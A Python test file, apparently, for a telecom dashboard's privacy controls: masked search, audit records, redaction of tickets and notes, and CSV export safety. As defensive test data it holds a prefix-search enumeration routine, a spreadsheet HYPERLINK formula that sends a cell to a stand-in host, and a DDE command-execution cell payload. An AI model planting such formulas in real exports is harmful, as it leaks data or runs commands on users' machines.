"""Personal data closed, not just hidden: checked at the engine (and the search API's audit), on
SQLite and PostgreSQL.

- Search is no oracle: a role that may not unmask, searching a prefix of a masked MSISDN or of a
  holder's name, gets what a nonsense query gets (nothing), so the value cannot be read back one
  character at a time; the whole value still finds its line. An analyst running the same attack
  recovers the value: the attack is real, and only the role closes it.
- Searches whose text reads a personal field are audited once (not per page or export chunk),
  without the text.
- Incident views and exports mask holders' names; sorting by account does not order them.
- CSV cells never run as formulas; numbers stay numbers.
- Free text (tickets, notes, churn reasons, incident notes, quarantined payloads) is redacted.

The people (``seed_people``): Joana Silva (consumer A-100, line S-1, +351 912 345 678), Joaquim
Santos (consumer A-400, line S-4, +351 912 345 600: the same first eight digits), Gonçalo Pires
(consumer A-300, line S-3, +44 7700 900123), and Silva & Filhos Lda (smb A-200, line S-2 and the
twenty lines F-00..F-19 on +351 960 00x xxx). Account ids are not names, so an id never finds a
holder by the letters of their name.
"""

from __future__ import annotations

import importlib
import io
import json
import string
from dataclasses import fields
from datetime import datetime, timedelta
from types import ModuleType
from typing import Any

import dash
import pandas as pd
import pytest
from sqlalchemy import Connection, insert, select

from connectors.base import Batch
from dashboard import queries
from dashboard.incidents import actions, read
from dashboard.incidents.queue import refresh_queue
from dashboard.ingest import Ingestor
from dashboard.kpis import Scoring, load_catalogue
from dashboard.privacy import Principal, csv_safe, redact_payload, redact_text
from dashboard.store.db import Store
from dashboard.store.schema import audit, quarantine, subscriber_signals
from dashboard.subscribers import search
from dashboard.subscribers.search import Filters, audit_search, search_page
from dashboard.subscribers.story import subscriber_story
from tests.apps import client as client_of
from tests.apps import new_app
from tests.browser import fixed_clock
from tests.incident_net import T, alarm, ingest, queue_rows, scoring

NOW = datetime(2026, 3, 2, 12, 0)
VIEWER = Principal("vera", "viewer")
OPERATOR = Principal("otto", "operator")
ANALYST = Principal("ana", "analyst")
CLOSED = [VIEWER, OPERATOR]  # roles that may not unmask

JOANA_DIGITS = "351912345678"
JOANA_MASKED = "+351 9*** ***678"


@pytest.fixture(scope="module")
def scoring_rules() -> Scoring:
    return load_catalogue("kpi_definitions.yaml").scoring


def seed_people(store: Store) -> None:
    accounts = [
        {"id": "A-100", "name": "Joana Silva", "segment": "consumer", "vip": True,
         "contact_name": "Joana Silva", "contact_email": "joana.silva@example.pt",
         "contact_phone": "+351 912 345 678"},
        {"id": "A-200", "name": "Silva & Filhos Lda", "segment": "smb", "vip": False},
        {"id": "A-300", "name": "Gonçalo Pires", "segment": "consumer", "vip": False},
        {"id": "A-400", "name": "Joaquim Santos", "segment": "consumer", "vip": False},
    ]  # fmt: skip
    lines = [
        {"id": "S-1", "account_id": "A-100", "msisdn": "+351 912 345 678", "arpu": 30.0},
        {"id": "S-2", "account_id": "A-200", "msisdn": "+351 913 000 111", "arpu": 40.0},
        {"id": "S-3", "account_id": "A-300", "msisdn": "+447700900123", "arpu": 10.0},
        {"id": "S-4", "account_id": "A-400", "msisdn": "+351 912 345 600", "arpu": 20.0},
        *({"id": f"F-{i:02d}", "account_id": "A-200", "msisdn": f"+35196000{i:04d}", "arpu": 5.0}
          for i in range(20)),
    ]  # fmt: skip
    counts = Ingestor(store, clock=fixed_clock(NOW)).ingest(
        "crm",
        [
            Batch(kind="accounts", records=accounts),
            Batch(kind="subscribers", records=[line | {"status": "active"} for line in lines]),
        ],
    )
    assert counts.quarantined == 0, counts


@pytest.fixture
def people(store: Store) -> Store:
    seed_people(store)
    return store


def ids_found(conn: Connection, text: str, principal: Principal, scoring_rules: Scoring) -> list[str]:
    rows, _, _ = search_page(conn, text, Filters(), principal=principal, scoring=scoring_rules, limit=1000)
    return sorted(r["id"] for r in rows)


def audit_rows(store: Store) -> list[Any]:
    with store.connect() as conn:
        return list(conn.execute(select(audit).order_by(audit.c.id)).fetchall())


# --- search is no oracle ----------------------------------------------------------------------


def prefix_attack(
    conn: Connection, principal: Principal, scoring_rules: Scoring, known: str, alphabet: str, target: str
) -> tuple[str, list[list[str]]]:
    """Extend ``known`` one character at a time, keeping the character for which ``target`` is still
    found; returns what was recovered and every query's result."""
    results: list[list[str]] = []
    while True:
        for c in alphabet:
            if c == " " and known.endswith(" "):
                continue  # typed text's spaces are collapsed: a second one asks nothing new
            found = ids_found(conn, known + c, principal, scoring_rules)
            results.append(found)
            if target in found:
                known += c
                break
        else:
            return known, results


@pytest.mark.parametrize("principal", CLOSED, ids=lambda p: p.role)
def test_a_masked_msisdn_cannot_be_read_back_by_prefix_search(
    people: Store, scoring_rules: Scoring, principal: Principal
) -> None:
    """The attack a viewer ran: ``+3519`` (what the mask shows), then one digit at a time."""
    with people.connect() as conn:
        nothing = ids_found(conn, "+0000000000", principal, scoring_rules)
        recovered, results = prefix_attack(conn, principal, scoring_rules, "+3519", string.digits, "S-1")
        analyst, _ = prefix_attack(conn, ANALYST, scoring_rules, "+3519", string.digits, "S-1")
        # The national number's end, which the mask shows too (``***678``), then digit by digit.
        ends = [ids_found(conn, JOANA_DIGITS[-k:], principal, scoring_rules) for k in range(4, 10)]
        whole = ids_found(conn, "+351 912 345 678", principal, scoring_rules)
    assert nothing == []
    assert analyst == "+" + JOANA_DIGITS  # the attack works where partial matching is allowed
    assert recovered == "+3519"  # and recovers nothing here: no digit was ever confirmed
    assert len(results) == 10 and all(r == nothing for r in results)
    assert all(r == nothing for r in ends)
    assert whole == ["S-1"]


@pytest.mark.parametrize("principal", CLOSED, ids=lambda p: p.role)
def test_a_masked_holder_name_cannot_be_read_back_by_prefix_search(
    people: Store, scoring_rules: Scoring, principal: Principal
) -> None:
    alphabet = string.ascii_lowercase + " "
    with people.connect() as conn:
        nothing = ids_found(conn, "zzzz qqqq", principal, scoring_rules)
        recovered, results = prefix_attack(conn, principal, scoring_rules, "j", alphabet, "S-1")
        analyst, _ = prefix_attack(conn, ANALYST, scoring_rules, "j", alphabet, "S-1")
        parts = {t: ids_found(conn, t, principal, scoring_rules) for t in ("j", "joa", "joana", "Joana S")}
    assert nothing == []
    assert analyst.rstrip() == "joana silva"
    assert recovered == "j" and len(results) == len(alphabet)
    assert all(r == nothing for r in results) and all(r == nothing for r in parts.values())


@pytest.mark.parametrize("principal", CLOSED, ids=lambda p: p.role)
def test_whole_values_still_find_their_line(
    people: Store, scoring_rules: Scoring, principal: Principal
) -> None:
    numbers = ["+351 912 345 678", "+351912345678", "00351912345678", "00 351 912 345 678",
               "351912345678", "(+351) 912-345.678"]  # fmt: skip
    names = ["Joana Silva", "joana  SILVA", "  JOANA silva "]
    with people.connect() as conn:
        for typed in numbers + names:
            assert ids_found(conn, typed, principal, scoring_rules) == ["S-1"], typed
        assert ids_found(conn, "Goncalo Pires", principal, scoring_rules) == ["S-3"]  # accents aside
        assert ids_found(conn, "+44 7700 900123", principal, scoring_rules) == ["S-3"]
        # A national number is the end of one: a part, so not for this role.
        assert ids_found(conn, "912345678", principal, scoring_rules) == []
        # What is not personal keeps its partial matching: ids, and a business's name.
        assert ids_found(conn, "S-", principal, scoring_rules) == ["S-1", "S-2", "S-3", "S-4"]
        business = ["S-2", *(f"F-{i:02d}" for i in range(20))]
        assert ids_found(conn, "silva", principal, scoring_rules) == sorted(business)
        assert ids_found(conn, "Silva & F", principal, scoring_rules) == sorted(business)


def test_roles_that_may_unmask_keep_partial_matching(people: Store, scoring_rules: Scoring) -> None:
    with people.connect() as conn:
        assert ids_found(conn, "joa", ANALYST, scoring_rules) == ["S-1", "S-4"]
        assert ids_found(conn, "+351 91234", ANALYST, scoring_rules) == ["S-1", "S-4"]
        assert ids_found(conn, "912345678", ANALYST, scoring_rules) == ["S-1"]  # a national number
        assert ids_found(conn, "5678", ANALYST, scoring_rules) == ["S-1"]  # last digits


def test_counts_and_exports_tell_no_more_than_the_page(
    people: Store, scoring_rules: Scoring, monkeypatch: Any
) -> None:
    monkeypatch.setattr(search, "EXPORT_CHUNK", 4)
    with people.connect() as conn:
        _, _, total = search_page(conn, "+35191", Filters(), principal=VIEWER, scoring=scoring_rules)
        part = search.export_csv(conn, "+35191", Filters(), VIEWER, scoring_rules)
        whole = search.export_csv(conn, "+351912345678", Filters(), VIEWER, scoring_rules)
        analyst = search.export_csv(conn, "+35191", Filters(), ANALYST, scoring_rules)
    assert total == 0
    assert part.splitlines() == [",".join(search.ROW_FIELDS)]  # the header alone
    df = pd.read_csv(io.StringIO(whole), dtype=str)
    assert df["id"].tolist() == ["S-1"] and df["msisdn"].tolist() == [JOANA_MASKED]
    assert df["account_name"].tolist() == ["J*** S***"]
    assert len(analyst.splitlines()) == 4  # S-1, S-2, S-4 and the header


def test_no_sort_or_filter_reads_a_personal_field() -> None:
    """The list sorts and filters by these only; a personal one added here must be closed like the
    search (a sort by name orders masked names; a filter on a number is a search by it)."""
    assert search.SORTS == ("value", "risk")
    assert {f.name for f in fields(Filters)} == {
        "segment",
        "region",
        "plan",
        "risk",
        "sentiment",
        "affected",
        "account",  # an account id, equal
    }


# --- the audit --------------------------------------------------------------------------------


def test_a_search_that_reads_a_personal_field_is_audited_once_without_its_text(
    people: Store, scoring_rules: Scoring, monkeypatch: Any
) -> None:
    monkeypatch.setattr(search, "EXPORT_CHUNK", 4)
    typed = "+351 960 00"
    detail = audit_search(people, ANALYST, typed, now=NOW)
    with people.connect() as conn:  # the pages after the first, and an export: no more records
        cursor: str | None = None
        pages = 0
        while True:
            _, cursor, _ = search_page(
                conn, typed, Filters(), principal=ANALYST, scoring=scoring_rules, limit=3, cursor=cursor
            )
            pages += 1
            if cursor is None:
                break
        csv_text = search.export_csv(conn, typed, Filters(), ANALYST, scoring_rules)
    assert pages == 7 and len(csv_text.splitlines()) == 21
    audit_search(people, ANALYST, typed, now=NOW, export=True)  # once for the whole export
    (searched, exported) = audit_rows(people)
    expected = {
        "role": "analyst",
        "via": "session",
        "fields": ["msisdn"],
        "match": "partial",
        "query_length": 11,
    }
    assert detail == expected
    assert (searched.actor, searched.action, searched.target_type, searched.target_id, searched.at) == (
        "ana",
        "subscriber.search",
        "subscriber",
        None,
        NOW,
    )
    assert searched.detail == expected
    assert (exported.action, exported.detail) == ("subscriber.export", expected)
    assert "96000" not in json.dumps([list(r) for r in audit_rows(people)], default=str)


def test_what_each_search_records(people: Store) -> None:
    assert audit_search(people, VIEWER, "+351 912 345 678", now=NOW) == {
        "role": "viewer",
        "via": "session",
        "fields": ["msisdn"],
        "match": "whole",
        "query_length": 16,
    }
    assert audit_search(people, OPERATOR, "Joana Silva", now=NOW) == {
        "role": "operator",
        "via": "session",
        "fields": ["holder_name"],
        "match": "whole",
        "query_length": 11,
    }
    admin = Principal("root", "admin", via="token")
    assert audit_search(people, admin, "jo", now=NOW) == {
        "role": "admin",
        "via": "token",
        "fields": ["holder_name"],
        "match": "partial",
        "query_length": 2,
    }
    # Nothing personal read, nothing written: an id (a name has no digit), no text at all.
    assert audit_search(people, VIEWER, "S-1", now=NOW) is None
    assert audit_search(people, ANALYST, "", now=NOW) is None
    rows = audit_rows(people)
    assert [r.actor for r in rows] == ["vera", "otto", "root"]
    assert not any(s in json.dumps([r.detail for r in rows]) for s in ("912", "Joana", "jo"))


# --- incidents ----------------------------------------------------------------------------------

HOLDERS = ("Zoe Young", "Abel Adams", "Joana Silva")
TICKET_TEXT = "Call JOANA on +351 912 345 678 or joana.silva@example.pt since 2026-03-02 11:55"
NOTE_TEXT = "Spoke to Joana Silva (VIP) on 912 345 678; mail joana.silva@example.pt"
EVIL = '=HYPERLINK("http://x.test/?q="&A1,"Open")'


@pytest.fixture
def incident(net: Store) -> tuple[Store, str]:
    """The hand-made network with three VIP consumers and a business whose name is a formula on c1,
    a ticket and a note that name Joana, and ran-1 (c1) down."""
    ingest(
        net,
        "accounts",
        [
            {"id": "VIP-Z", "name": "Zoe Young", "segment": "consumer", "vip": True},
            {"id": "VIP-A", "name": "Abel Adams", "segment": "consumer", "vip": True},
            {
                "id": "VIP-J",
                "name": "Joana Silva",
                "segment": "consumer",
                "vip": True,
                "contact_name": "Joana Silva",
                "contact_email": "joana.silva@example.pt",
            },
            {"id": "EVIL", "name": EVIL, "segment": "smb", "vip": False},
        ],
    )
    lines = [("P1", "VIP-Z", "+351911000001"), ("P2", "VIP-A", "+351911000002"),
             ("P3", "VIP-J", "+351912345678"), ("X1", "EVIL", "+351911000009")]  # fmt: skip
    ingest(
        net,
        "subscribers",
        [
            {"id": i, "account_id": a, "msisdn": m, "arpu": 10.0, "home_cell_id": "c1", "plan": "-1+2"}
            for i, a, m in lines
        ],
    )
    ingest(
        net, "subscriber_cells", [{"subscriber_id": i, "cell_id": "c1", "share": 1.0} for i, _, _ in lines]
    )
    with net.begin() as conn:
        conn.execute(
            insert(subscriber_signals).values(
                subscriber_id="P1", source="vantage", churn_risk=0.2, sentiment_30d=-0.5, scored_at=T
            )
        )
    ingest(net, "alarms", [alarm("A1", "ran-1", T - timedelta(minutes=5))])
    ingest(
        net,
        "tickets",
        [
            {
                "id": "TK1",
                "subscriber_id": "P3",
                "status": "new",
                "created_at": T - timedelta(minutes=2),
                "updated_at": T - timedelta(minutes=2),
                "subject": "Joana Silva: no signal",
                "description": TICKET_TEXT,
            },
        ],
    )
    refresh_queue(net, scoring(), now=T, currency="EUR")
    inc_id = str(queue_rows(net).iloc[0]["incident_id"])
    actions.add_note(
        net,
        inc_id,
        "Spoke to Joana Silva (VIP) on 912 345 678; mail joana.silva@example.pt",
        actor="noc",
        now=T,
    )
    return net, inc_id


def _clear(text: str) -> list[str]:
    """The clear personal values found in ``text``."""
    return [v for v in (*HOLDERS, "Joana", "912345678", "912 345 678", "joana.silva@") if v in text]


def test_incident_accounts_and_subscribers_mask_holders_names(incident: tuple[Store, str]) -> None:
    store, inc_id = incident
    s = scoring()
    with store.connect() as conn:
        accounts = read.affected_accounts(conn, inc_id, s, now=T)
        page, total = read.affected_subscribers(conn, inc_id, s, limit=100)
    names = dict(zip(accounts["account_id"], accounts["name"], strict=True))
    assert names == {
        "ENT": "Harbour Logistics",  # a business's name is not personal
        "EVIL": EVIL,
        "VIP-Z": "Z*** Y***",
        "VIP-A": "A*** A***",
        "VIP-J": "J*** S***",
    }
    assert total == 9
    shown = dict(zip(page["id"], page["account"], strict=True))
    assert (shown["P1"], shown["P3"], shown["E0"]) == ("Z*** Y***", "J*** S***", "Harbour Logistics")
    assert "account_order" not in page.columns
    assert _clear(page.to_csv()) == [] and _clear(accounts.to_csv()) == []


def test_sorting_by_account_does_not_order_holders_names(incident: tuple[Store, str]) -> None:
    """By clear name Abel (P2) would come before Zoe (P1); masked, holders sort as one, by id."""
    store, inc_id = incident
    with store.connect() as conn:
        up, _ = read.affected_subscribers(conn, inc_id, scoring(), sort="account", descending=False)
    assert up["id"].tolist() == ["P1", "P2", "P3", "X1", "E0", "E1", "E2", "E3", "E4"]


def test_the_incident_export_masks_and_never_runs(incident: tuple[Store, str]) -> None:
    store, inc_id = incident
    with store.connect() as conn:
        text = read.affected_subscribers_csv(conn, inc_id, scoring())
    assert _clear(text) == []
    by_id = pd.read_csv(io.StringIO(text)).set_index("id")
    assert by_id.loc["X1", "account"] == "'" + EVIL  # shown as text, never run
    assert by_id.loc["P1", "plan"] == "'-1+2"
    assert by_id.loc["P1", "msisdn"] == "+351 9*** ***001"  # the mask's + is not a formula
    assert by_id.loc["P1", "sentiment"] == -0.5  # a negative number stays a number
    cells = [v for v in by_id.reset_index().to_numpy().ravel() if isinstance(v, str)]
    assert all(csv_safe(v) == v for v in cells)  # no text cell left a spreadsheet would run


def test_incident_tickets_and_notes_are_redacted(incident: tuple[Store, str]) -> None:
    store, inc_id = incident
    with store.connect() as conn:
        tickets = read.related_tickets(conn, inc_id)
        notes = read.notes(conn, inc_id)
    (ticket,) = tickets.to_dict("records")
    assert ticket["subject"] == "J*** S***: no signal"
    assert ticket["description"] == "Call J*** on +351 9*** ***678 or j***@example.pt since 2026-03-02 11:55"
    assert notes["text"].tolist() == ["Spoke to J*** S*** (VIP) on 9*** ***678; mail j***@example.pt"]


# --- the subscriber story -----------------------------------------------------------------------


STORY_TICKET = "Call Joana on +351 912 345 678 or 00351 913 000 111, or joana.silva@example.pt"
STORY_LEAKS = (
    "Joana",
    "joana",
    "Silva",
    "912 345 678",
    "912345678",
    "912-345-678",
    "913 000 111",
    "913000111",
)


def test_the_story_redacts_what_people_wrote(store: Store) -> None:
    seed_people(store)
    two_hours_ago, an_hour_ago = NOW - timedelta(hours=2), NOW - timedelta(hours=1)
    ticket = {"id": "T1", "subscriber_id": "S-1", "account_id": "A-100", "status": "new"}
    ticket |= {"created_at": two_hours_ago, "updated_at": two_hours_ago}
    ticket |= {"subject": "Joana Silva cannot call", "description": STORY_TICKET}
    note = {"id": "N1", "ticket_id": "T1", "author": "Rita (care)", "created_at": an_hour_ago}
    note |= {"text": "Spoke with joana; she gave 912-345-678"}
    churn = {"id": "C1", "subscriber_id": "S-1", "occurred_at": NOW - timedelta(minutes=30)}
    churn |= {"reason": "Silva moved, new number 913000111"}
    counts = Ingestor(store, clock=fixed_clock(NOW)).ingest(
        "care",
        [
            Batch(kind="tickets", records=[ticket]),
            Batch(kind="ticket_notes", records=[note]),
            Batch(kind="churn_events", records=[churn]),
        ],
    )
    assert counts.quarantined == 0, counts
    for principal in (VIEWER, ANALYST):  # masked for every role until unmask
        with store.connect() as conn:
            story = subscriber_story(conn, "S-1", principal, now=NOW)
        assert story is not None
        sent = json.dumps(story)  # the timeline included
        assert [x for x in STORY_LEAKS if x in sent] == [], principal.role
        (told,) = story["tickets"]
        assert told["subject"] == "J*** S*** cannot call"
        assert told["description"] == (
            "Call J*** on +351 9*** ***678 or +351 9*** ***111, or j***@example.pt"
        )
        assert told["notes"][0]["text"] == "Spoke with j***; she gave 9*** ***678"
        assert told["notes"][0]["author"] == "Rita (care)"
        assert story["churn_events"][0]["reason"] == "S*** moved, new number 9*** ***111"


# --- free text, payloads and CSV cells ----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "redacted"),
    [
        ("call +351 912 345 678 now", "call +351 9*** ***678 now"),
        ("(+351) 912.345.678", "+351 9*** ***678"),
        ("07700-900-123 or 0044 7700 900123", "0*** ***123 or +44 7*** ***123"),
        ("write to Joana.Silva+care@mail.example.pt!", "write to J***@mail.example.pt!"),
        ("JOANA SILVA and joana and Silva", "J*** S*** and j*** and S***"),
        ("Joanaville, Silvano", "Joanaville, Silvano"),  # whole words only
        ("Maria da Costa at da Vinci", "M*** d*** C*** at da Vinci"),  # short words only in the name
        ("on 2026-03-02T11:55:00Z, ticket 1234, order A1234567, 12345.678 GB", None),  # unchanged
        ("", ""),
    ],
)
def test_redact_text(text: str, redacted: str | None) -> None:
    assert redact_text(text, ["Joana Silva", None, "Maria da Costa"]) == (
        text if redacted is None else redacted
    )


def test_redact_payload_masks_names_and_addresses_under_their_keys_even_cut_short() -> None:
    raw = json.dumps(
        {
            "id": "A-9",
            "name": "Joana Silva",
            "contact": {"givenName": "Joana", "familyName": "Silva", "street1": "Rua das Flores 12"},
            "contact_phone": "+351 912 345 678",
            "note": "ask for Joana at joana.silva@example.pt",
            "at": "2026-03-02T11:55:00Z",
        }
    )
    out = redact_payload(raw, "accounts")
    assert json.loads(out) == {
        "id": "A-9",
        "name": "J*** S***",
        "contact": {"givenName": "J***", "familyName": "S***", "street1": "***"},
        "contact_phone": "+351 9*** ***678",
        "note": "ask for J*** at j***@example.pt",
        "at": "2026-03-02T11:55:00Z",
    }
    assert "Joana" not in redact_payload(raw[:60])  # a preview cut mid-payload, kind unknown
    cell = '{"id": "c9", "name": "Harbour-1", "site_id": "S1"}'
    assert redact_payload(cell, "cells") == cell  # a network element's name is not a person's


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),  # a number as text stays a number
        ("+351 9*** ***678", "+351 9*** ***678"),  # a masked MSISDN: no formula
        (-0.5, -0.5),
        (3, 3),
        (None, None),
        ("Harbour", "Harbour"),
    ],
)
def test_csv_safe(value: Any, safe: Any) -> None:
    assert csv_safe(value) == safe


# --- the quarantine on the Sources page ---------------------------------------------------------


@pytest.fixture
def sources(sqlite_store: Store) -> tuple[ModuleType, Store]:
    """The Sources page module (a page registers itself with an app, so one must exist) and a store;
    the quarantine's rows and detail are plain functions of the store."""
    dash.Dash(__name__, use_pages=True, pages_folder="")
    return importlib.import_module("dashboard.pages.sources"), sqlite_store


def test_quarantined_payloads_are_shown_redacted(sources: tuple[ModuleType, Store]) -> None:
    page, store = sources
    account = json.dumps(
        {"id": "A-9", "name": "Joana Silva", "segment": "gold", "contact_email": "joana.silva@example.pt"}
    )
    line = '{"id": "S-9", "msisdn": 351912345678, "note": "Joana\'s second line"}'
    with store.begin() as conn:
        for kind, raw, reason in (
            ("accounts", account, "segment: 'gold' is not one of consumer, smb, enterprise"),
            ("subscribers", line, "msisdn: expected text, got 351912345678"),
        ):
            conn.execute(
                insert(quarantine).values(
                    connector="crm", kind=kind, record_id="x", reason=reason, raw=raw, received_at=NOW
                )
            )
        first = conn.execute(select(quarantine.c.id).order_by(quarantine.c.id)).scalars().first()
    with store.connect() as conn:
        rows = page.quarantine_rows(queries.quarantine_page(conn))
    shown = json.dumps(rows)
    assert "Joana Silva" not in shown and "351912345678" not in shown and "joana.silva@" not in shown
    assert {r["reason"] for r in rows} == {
        "segment: 'gold' is not one of consumer, smb, enterprise",  # nothing personal: as it was
        "msisdn: expected text, got 3*** ***678",
    }
    detail = page.raw_detail(store, {"rowId": str(first)})
    assert json.loads(detail) == {
        "id": "A-9",
        "name": "J*** S***",
        "segment": "gold",
        "contact_email": "j***@example.pt",
    }


# --- the API's share: one record per search, however many pages -----------------------------------


def test_the_api_audits_a_search_on_its_first_page_and_an_export_once(
    people: Store, monkeypatch: Any
) -> None:
    """Through the HTTP API (tests/apps.client: an analyst's API token): a personal search paged with
    its cursors writes one record, its export one more, and a search by id none."""
    monkeypatch.setattr(search, "EXPORT_CHUNK", 4)
    api = client_of(new_app(people), people, "analyst")
    url = "/api/v1/subscribers?q=%2B351%20960%2000&limit=3"
    pages = 0
    while url:
        response = api.get(url)
        assert response.status_code == 200, response.get_data(as_text=True)
        cursor = response.get_json()["next_cursor"]
        url = f"/api/v1/subscribers?q=%2B351%20960%2000&limit=3&cursor={cursor}" if cursor else ""
        pages += 1
    exported = api.get("/api/v1/subscribers.csv?q=%2B351%20960%2000")
    assert exported.status_code == 200 and len(exported.get_data(as_text=True).splitlines()) == 21
    assert api.get("/api/v1/subscribers?q=S-1").status_code == 200
    searches = [r for r in audit_rows(people) if r.action.startswith("subscriber.")]
    assert pages == 7
    assert [(r.action, r.detail["fields"], r.detail["match"]) for r in searches] == [
        ("subscriber.search", ["msisdn"], "partial"),
        ("subscriber.export", ["msisdn"], "partial"),
    ]
